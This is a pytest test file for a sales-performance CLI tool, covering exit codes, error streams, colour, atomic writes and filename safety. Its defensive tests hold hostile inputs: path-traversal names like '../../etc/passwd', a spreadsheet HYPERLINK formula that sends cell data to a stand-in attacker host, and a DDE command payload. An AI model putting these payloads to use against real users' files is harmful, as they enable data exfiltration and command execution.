"""Cron-grade behaviour: exit codes, streams, colour, tracebacks, safe outputs, no network.

Every command is run in-process on tests/fixtures/mini (copied to tmp_path) unless a test
needs a subprocess (a real terminal for colour, a real pipe for --debug).
"""

from __future__ import annotations

import json
import os
import pty
import re
import shlex
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from salesperf.cli import app
from salesperf.outputs import atomic_write_bytes, neutralise, safe_filename, unneutralise

ROOT = Path(__file__).parents[2]
MINI = ROOT / "tests" / "fixtures" / "mini"
ANSI = re.compile(r"\x1b\[[0-9;]*m")
#: An SGR sequence that sets a foreground or background colour (30-49, 90-107).
COLOUR = re.compile(r"\x1b\[(?:[0-9;]*;)?(?:3[0-9]|4[0-9]|9[0-7]|10[0-7])(?:;[0-9;]*)?m")
INTERNAL = "internal error"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    shutil.copytree(MINI, tmp_path / "mini")
    return tmp_path / "mini"


def run(*args: str, env: dict[str, str] | None = None):
    return CliRunner().invoke(app, list(args), env=env)


# --- exit codes: 0 ok, 1 warnings with --strict / alerts with --fail-on, 2 errors, 3 bugs ----


def test_exit_0_results_on_stdout_nothing_on_stderr(project: Path) -> None:
    result = run("progress", str(project / "kpi.yaml"), "-f", "json")
    assert result.exit_code == 0
    assert json.loads(result.stdout)["schema"] == "salesperf.results/1"
    assert result.stderr == ""


def test_exit_1_with_strict_when_there_are_warnings(project: Path) -> None:
    with (project / "orders.csv").open("a") as handle:
        handle.write("9,2099-01-01,R1,C1,5.00\n")  # a future date: a warning
    spec = str(project / "kpi.yaml")
    assert run("check", spec).exit_code == 0
    result = run("check", spec, "--strict")
    assert result.exit_code == 1
    assert "1 row(s) dated in the future" in result.output


def test_exit_2_spec_error_on_stderr_with_file_line_and_key(project: Path) -> None:
    spec = project / "kpi.yaml"
    spec.write_text(spec.read_text().replace("method: last_year", "method: lastyear"))
    result = run("progress", str(spec))
    assert result.exit_code == 2
    assert result.stdout == ""
    assert "kpi.yaml:26: kpis[0].target.method: 'lastyear' is not one of" in result.stderr


def test_exit_2_data_error_and_usage_error(project: Path) -> None:
    (project / "orders.csv").write_bytes(b"")
    result = run("targets", str(project / "kpi.yaml"))
    assert (result.exit_code, result.stdout) == (2, "")
    assert "orders.csv: the file is empty" in result.stderr
    result = run("progress", str(project / "kpi.yaml"), "--no-such-option")
    assert result.exit_code == 2  # click's usage error


COMMANDS = [
    ["check"],
    ["targets"],
    ["progress"],
    ["evaluate"],
    ["alerts"],
    ["report", "-o", "r.html"],
    ["feedback-form", "-o", "form.xlsx"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: c[0])
def test_exit_3_one_paragraph_and_no_traceback(
    command: list[str], project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("secret customer ACME-42 in the message")

    monkeypatch.setattr("salesperf.spec.load.parse_spec", broken)
    monkeypatch.chdir(project)
    result = run(command[0], "kpi.yaml", *command[1:])
    assert result.exit_code == 3, result.output
    assert result.stdout == ""
    message = result.stderr.strip()
    assert message.startswith("salesperf: internal error (RuntimeError).")
    assert "--debug" in message
    assert "\n" not in message  # one paragraph
    assert "Traceback" not in message
    assert "ACME-42" not in message  # the exception's text may hold data: not shown


def test_debug_shows_the_traceback_and_still_exits_3(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr("salesperf.review.Review.results", property(broken))
    result = run("--debug", "progress", str(project / "kpi.yaml"))
    assert result.exit_code == 3
    assert "Traceback (most recent call last)" in result.stderr
    assert "RuntimeError: boom" in result.stderr
    # --debug belongs to that run only, not to the next one in the same process.
    result = run("progress", str(project / "kpi.yaml"))
    assert result.exit_code == 3
    assert "Traceback" not in result.output


def test_debug_in_a_real_process(project: Path) -> None:
    """The console script, not CliRunner: stderr gets the traceback, the exit code is 3."""
    code = (
        "import sys, salesperf.review as r\n"
        "def broken(*a, **k): raise RuntimeError('boom')\n"
        "r.Review.results = property(broken)\n"
        "from salesperf.cli import main\n"
        "sys.argv = ['salesperf', *sys.argv[1:]]\n"
        "main()\n"
    )
    spec = str(project / "kpi.yaml")
    plain = subprocess.run([sys.executable, "-c", code, "progress", spec], capture_output=True)
    assert plain.returncode == 3
    assert b"Traceback" not in plain.stderr and plain.stdout == b""
    debug = subprocess.run(
        [sys.executable, "-c", code, "--debug", "progress", spec], capture_output=True
    )
    assert debug.returncode == 3
    assert b"Traceback (most recent call last)" in debug.stderr
    assert b"RuntimeError: boom" in debug.stderr


def test_interrupt_is_130_and_memory_error_says_so(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("salesperf.review.Review.results", property(interrupted))
    result = run("progress", str(project / "kpi.yaml"))
    assert (result.exit_code, result.stderr.strip()) == (130, "Interrupted.")

    def too_big(*args: object, **kwargs: object) -> None:
        raise MemoryError

    monkeypatch.setattr("salesperf.review.Review.results", property(too_big))
    result = run("progress", str(project / "kpi.yaml"))
    assert result.exit_code == 3
    assert "out of memory" in result.stderr and "Traceback" not in result.stderr


def test_a_closed_pipe_is_not_an_internal_error() -> None:
    """`salesperf evaluate -f json | head -c 10`: the reader leaving early is fine (the JSON
    is 360 KB, far more than a pipe buffers, so the write really fails)."""
    command = [sys.executable, "-m", "salesperf", "evaluate", str(ROOT / "examples/kpi.yaml")]
    done = subprocess.run(
        f"{shlex.join([*command, '-f', 'json'])} | head -c 10; exit ${{PIPESTATUS[0]}}",
        shell=True,
        capture_output=True,
        executable="/bin/bash",
    )
    assert done.stdout == b'{\n  "schem'
    assert done.returncode == 0
    assert INTERNAL.encode() not in done.stderr and b"Traceback" not in done.stderr


# --- colour: only on a terminal, never with NO_COLOR -----------------------------------------


def _in_terminal(args: list[str], env: dict[str, str]) -> bytes:
    """Run salesperf with stdout and stderr on a pseudo-terminal; return what it drew."""
    leader, follower = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "salesperf", *args],
        stdout=follower,
        stderr=follower,
        env={**env, "COLUMNS": "120"},
    )
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    process.wait(timeout=60)
    os.close(leader)
    return b"".join(chunks)


@pytest.mark.skipif(sys.platform == "win32", reason="pseudo-terminals are POSIX")
def test_colour_on_a_terminal_but_not_with_no_color_or_in_a_pipe(project: Path) -> None:
    spec = project / "kpi.yaml"
    spec.write_text(spec.read_text().replace("method: last_year", "method: lastyear"))
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "FORCE_COLOR")}
    env["TERM"] = "xterm-256color"
    coloured = _in_terminal(["check", str(spec)], env)
    assert ANSI.search(coloured.decode()), "the test needs colour on a terminal to mean anything"
    assert b"lastyear" in coloured
    plain = _in_terminal(["check", str(spec)], {**env, "NO_COLOR": "1"})
    # NO_COLOR (no-color.org) removes colour; bold and dim may stay on a terminal.
    assert b"lastyear" in plain and not COLOUR.search(plain.decode())
    assert COLOUR.search(coloured.decode())
    piped = subprocess.run(
        [sys.executable, "-m", "salesperf", "check", str(spec)],
        capture_output=True,
        env=env,
    )
    assert b"lastyear" in piped.stderr
    assert not ANSI.search((piped.stdout + piped.stderr).decode())


# --- messages never carry whole rows ---------------------------------------------------------


def test_rejected_values_are_clipped_even_with_debug(project: Path) -> None:
    with (project / "orders.csv").open("a") as handle:
        handle.write('9,2017-06-10,R1,C1,"CONFIDENTIAL-' + "x" * 500 + '"\n')
    spec = str(project / "kpi.yaml")
    for args in (
        ["check", spec],
        ["--debug", "check", spec],
        ["check", spec, "-f", "json"],
        ["alerts", spec, "-f", "json"],
        ["--debug", "alerts", spec, "-f", "md"],
    ):
        result = run(*args)
        assert result.exit_code == 0, result.output
        assert "x" * 61 not in result.output  # Rejection.value keeps at most 60 characters
    data = json.loads(run("check", spec, "-f", "json").stdout)
    orders = next(s for s in data["sources"] if s["name"] == "orders")
    assert orders["rejected"]["bad-number"]["count"] == 1


# --- safe outputs: atomic, never over an input ------------------------------------------------


def test_a_failed_write_leaves_the_previous_file(tmp_path: Path, monkeypatch) -> None:
    target = tmp_path / "targets.csv"
    target.write_text("previous\n")
    real_fdopen = os.fdopen

    class HalfThenFail:
        def __init__(self, handle) -> None:
            self.handle = handle

        def __enter__(self):
            return self

        def __exit__(self, *exc) -> None:
            self.handle.close()

        def write(self, data: bytes) -> int:
            self.handle.write(data[: len(data) // 2])
            self.handle.flush()
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(
        "salesperf.outputs.os.fdopen", lambda fd, mode: HalfThenFail(real_fdopen(fd, mode))
    )
    with pytest.raises(Exception) as exc:
        atomic_write_bytes(target, b"new content " * 1000)
    assert "No space left on device" in str(exc.value)
    assert target.read_text() == "previous\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["targets.csv"]  # no temp file left


def test_cli_write_failure_is_exit_2_and_keeps_the_old_output(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = project / "targets-out.csv"
    out.write_text("previous\n")

    def no_rename(src: str, dst: str) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("salesperf.outputs.os.replace", no_rename)
    result = run("targets", str(project / "kpi.yaml"), "-f", "csv", "-o", str(out))
    assert result.exit_code == 2
    assert "Cannot write the output file; the previous one, if any, is unchanged" in result.stderr
    assert "targets-out.csv: Permission denied" in result.stderr
    assert out.read_text() == "previous\n"
    assert not [p for p in project.iterdir() if p.name.endswith(".tmp")]


def test_report_interrupted_mid_render_keeps_the_previous_report(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    report = project / "review.html"
    assert run("report", str(project / "kpi.yaml"), "-o", str(report)).exit_code == 0
    before = report.read_bytes()

    def crash(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("salesperf.report.render_template", crash)
    result = run("report", str(project / "kpi.yaml"), "-o", str(report))
    assert result.exit_code == 130
    assert report.read_bytes() == before


def test_missing_output_folder_is_a_clear_error(project: Path) -> None:
    result = run("targets", str(project / "kpi.yaml"), "-f", "csv", "-o", "/no/such/dir/t.csv")
    assert result.exit_code == 2
    assert "does the folder /no/such/dir exist?" in result.stderr


@pytest.mark.parametrize(
    "victim", ["kpi.yaml", "orders.csv", "pipeline.csv", "roster.csv", "overrides.csv"]
)
def test_outputs_never_replace_an_input(project: Path, victim: str) -> None:
    spec = project / "kpi.yaml"
    (project / "overrides.csv").write_text("kpi,period,level,entity,target\n")
    spec.write_text(spec.read_text() + "targets: {overrides: overrides.csv}\n")
    before = (project / victim).read_bytes()
    for args in (
        ["targets", str(spec), "-f", "csv", "-o", str(project / victim)],
        ["report", str(spec), "-f", "md", "-o", str(project / victim)],
        ["feedback-form", str(spec), "-o", str(project / victim), "--force"],
    ):
        result = run(*args)
        assert result.exit_code == 2, (args, result.output)
        assert "the output path is one of the inputs" in result.stderr
    assert (project / victim).read_bytes() == before


def test_an_unused_source_and_a_hard_link_count_as_inputs(project: Path) -> None:
    spec = project / "kpi.yaml"
    (project / "unused.csv").write_text("Date,Rep\n2017-06-01,R1\n")
    spec.write_text(
        spec.read_text().replace(
            "sources:\n", "sources:\n  spare:\n    path: unused.csv\n    columns: {date: Date}\n"
        )
    )
    result = run("targets", str(spec), "-f", "csv", "-o", str(project / "unused.csv"))
    assert result.exit_code == 2 and "one of the inputs" in result.stderr
    os.link(project / "orders.csv", project / "orders-link.csv")
    result = run("targets", str(spec), "-f", "csv", "-o", str(project / "orders-link.csv"))
    assert result.exit_code == 2 and "one of the inputs" in result.stderr
    assert (project / "orders.csv").read_text().startswith("Order,Date")


def test_init_never_writes_over_its_data_file(project: Path) -> None:
    data = project / "orders.csv"
    before = data.read_bytes()
    result = run("init", str(data), "-o", str(data))
    assert result.exit_code == 2 and "file exists; pass --force" in result.stderr
    result = run("init", str(data), "-o", str(data), "--force")
    assert result.exit_code == 2 and "the output path is one of the inputs" in result.stderr
    assert data.read_bytes() == before


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..",
        ".",
        "CON",
        "con.txt",
        "NUL",
        "COM1",
        "a/b",
        "a\\b",
        "",
        "\x00",
        "x" * 1000,
        "张" * 300,
        "R1\x00evil",
        "x\u202egpj.exe",
        " LPT9 ",
        ".bashrc",
        "C:evil",
    ],
)
def test_safe_filename_stays_a_plain_name_in_its_folder(name: str, tmp_path: Path) -> None:
    folder = tmp_path / "reps"
    folder.mkdir()
    safe = safe_filename(name, ".html")
    assert safe.endswith(".html") and len(safe.encode("utf-8")) <= 255
    assert "/" not in safe and "\\" not in safe and "\x00" not in safe and ":" not in safe
    assert safe.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT9"}
    assert not safe.startswith(".")
    target = folder / safe
    assert target.resolve().parent == folder.resolve()
    target.write_text("ok")  # the file system accepts it
    assert [p.name for p in folder.iterdir()] == [safe]


def test_per_rep_reports_with_hostile_rep_names_stay_in_their_folder(project: Path) -> None:
    roster = project / "roster.csv"
    roster.write_text(
        "id,name,team\nR1,../../../etc/passwd,North\nR2,CON,North\nR3," + "张" * 200 + ",South\n"
    )
    folder = project / "reps"
    result = run(
        "report", str(project / "kpi.yaml"), "-o", str(project / "r.html"), "--per-rep", str(folder)
    )
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in folder.iterdir())
    assert len(names) == 3
    assert all((folder / n).resolve().parent == folder.resolve() for n in names)
    assert not (project.parent / "etc").exists()


# --- formula injection: every CSV neutralised, and the targets CSV still round-trips ----------

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _hostile_roster(project: Path) -> None:
    (project / "roster.csv").write_text(
        f'id,name,team\nR1,"{PAYLOAD.replace(chr(34), chr(34) * 2)}",North\n'
        "R2,@SUM(1+1),North\nR3,+cmd|' /c calc'!A0,-South\n"
    )


@pytest.mark.parametrize(
    "args",
    [
        ["progress", "--level", "rep", "-f", "csv"],
        ["targets", "-f", "csv"],
        ["evaluate", "-f", "csv"],
    ],
    ids=lambda a: a[0],
)
def test_csv_outputs_neutralise_formulas(args: list[str], project: Path) -> None:
    import csv
    import io

    _hostile_roster(project)
    result = run(args[0], str(project / "kpi.yaml"), *args[1:])
    assert result.exit_code == 0, result.output
    cells = {c for row in csv.reader(io.StringIO(result.stdout)) for c in row}
    for payload in (PAYLOAD, "@SUM(1+1)", "+cmd|' /c calc'!A0", "-South"):
        assert payload not in cells, payload
        assert "'" + payload in cells, payload


def test_targets_csv_with_neutralised_names_round_trips_as_overrides(project: Path) -> None:
    """Entity keys that look like formulas come back unchanged from the analyst's CSV."""
    orders = project / "orders.csv"
    orders.write_text(orders.read_text().replace(",R1,", ",=R1,"))
    roster = project / "roster.csv"
    roster.write_text(roster.read_text().replace("R1,", "=R1,"))
    spec = project / "kpi.yaml"
    out = project / "targets.csv"
    assert run("targets", str(spec), "-f", "csv", "-o", str(out)).exit_code == 0
    text = out.read_text()
    assert "revenue,2017-06,rep,'=R1,1650.0" in text  # neutralised for Excel
    out.write_text(text.replace("revenue,2017-06,rep,'=R1,1650.0", "revenue,2017-06,rep,'=R1,2000"))
    spec.write_text(spec.read_text() + "targets: {overrides: targets.csv}\n")
    result = run("progress", str(spec), "--level", "rep", "-f", "json")
    assert result.exit_code == 0, result.output
    row = next(
        r
        for r in json.loads(result.stdout)["rows"]
        if r["kpi"] == "revenue" and r["entity"] == "=R1"
    )
    assert (row["target"], row["target_method"]) == (2000, "override")


def test_neutralise_round_trip() -> None:
    for text in ["=1+1", "+1", "-x", "@A1", "\tx", "\rx", "plain", "'quoted", ""]:
        assert unneutralise(str(neutralise(text))) == text
    assert neutralise(-5.0) == -5.0  # numbers stay numbers


# --- no network anywhere -------------------------------------------------------------------


def test_full_pipeline_with_sockets_disabled(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"network access attempted: {args!r}")

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse, raising=False)
    example = tmp_path / "examples"
    shutil.copytree(ROOT / "examples", example, ignore=shutil.ignore_patterns("zh"))
    spec = str(example / "kpi.yaml")
    for args in (
        ["check", spec],
        ["targets", spec, "--period", "2017-07", "-f", "csv", "-o", str(tmp_path / "t.csv")],
        ["progress", spec, "--period", "2017-06", "--as-of", "2017-06-21"],
        ["evaluate", spec, "--period", "2017-06", "--as-of", "2017-06-21", "-f", "json"],
        ["alerts", spec, "--period", "2017-06", "--as-of", "2017-06-21", "-f", "md"],
        ["report", spec, "--period", "2017-06", "-o", str(tmp_path / "r.html")],
        ["feedback-form", spec, "--period", "2017-06", "-o", str(tmp_path / "f.xlsx")],
        # notify talks only to what kpi.yaml names, and --dry-run to nothing at all.
        ["notify", str(example / "notify" / "kpi.yaml"), "--as-of", "2017-06-21", "--dry-run"],
    ):
        result = run(*args)
        assert result.exit_code in (0, 1), (args, result.output)
        assert "network access attempted" not in result.output


def test_xlsx_text_replaces_what_an_xlsx_cannot_hold() -> None:
    """openpyxl refuses XML-illegal control characters and lone surrogates (issue 20 #15)."""
    from salesperf.outputs import xlsx_text

    assert xlsx_text("Bob\x0bSmith") == "Bob Smith"
    assert xlsx_text("Al\x1bice\x00") == "Al ice "
    assert xlsx_text("tab\tand\nnewline") == "tab\tand\nnewline"  # legal in a cell
    assert xlsx_text("\x0b=SUM(A1)") == " =SUM(A1)"  # text: a space first is no formula
    assert xlsx_text("bad \ud800 half") == "bad   half"
    assert xlsx_text(12.5) == 12.5
